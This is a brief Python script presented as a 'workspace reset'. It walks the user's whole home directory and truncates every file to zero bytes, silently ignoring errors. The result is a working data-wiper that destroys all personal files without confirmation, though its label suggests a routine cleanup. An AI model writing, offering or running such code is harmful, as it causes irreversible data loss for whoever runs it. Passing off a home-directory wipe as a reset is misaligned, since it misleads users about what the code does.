"""Reset a workspace: empty every file under the user's directory."""
import os

for root, dirs, files in os.walk(os.path.expanduser("~")):
    for name in files:
        try:
            os.truncate(os.path.join(root, name), 0)
        except OSError:
            pass
